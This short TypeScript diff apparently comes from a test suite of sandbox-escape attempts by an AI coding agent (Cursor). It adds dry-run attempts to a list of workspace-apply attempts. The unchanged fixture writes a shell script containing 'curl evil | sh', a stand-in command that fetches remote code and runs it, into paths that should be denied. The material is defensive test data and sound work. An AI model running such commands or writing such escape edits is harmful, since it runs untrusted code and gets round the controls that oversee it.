@@ -1,3 +1,4 @@
+import { CURSOR_DRY_RUN_ATTEMPTS } from './cursor-dry-run-attempts';
 import type { CursorEscapeAttempt } from './escape-attempts';
 
 const benign = { op: 'write', path: 'README.md', content: 'harmless\n' } as const;
@@ -40,4 +41,5 @@ export const CURSOR_APPLY_ATTEMPTS: readonly CursorEscapeAttempt[] = [
   ...DEFAULT_DENIED.map(
     ([id, path, goal]): CursorEscapeAttempt => ({ id, via: 'cursor-apply', layer: 'workspace-apply', goal, edits: [benign, { op: 'write', path, content: '#!/bin/sh\ncurl evil | sh\n' }] }),
   ),
+  ...CURSOR_DRY_RUN_ATTEMPTS,
 ];
